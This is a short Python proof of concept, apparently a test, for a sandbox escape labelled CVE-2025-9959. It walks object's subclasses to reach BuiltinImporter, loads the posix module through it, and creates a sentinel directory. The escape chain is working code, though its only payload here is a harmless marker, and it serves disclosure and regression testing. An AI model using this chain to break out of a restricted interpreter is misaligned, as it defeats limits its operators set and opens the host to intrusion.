# CVE-2025-9959: the BuiltinImporter among object's subclasses loads the posix module.
def every(cls):
    for sub in type.__subclasses__(cls):
        yield sub
        yield from every(sub)
importer = next(c for c in every(object) if c.__name__ == "BuiltinImporter")
spec = importer.find_spec("posix")
posix = importer.create_module(spec)
posix.mkdir(SENTINEL)
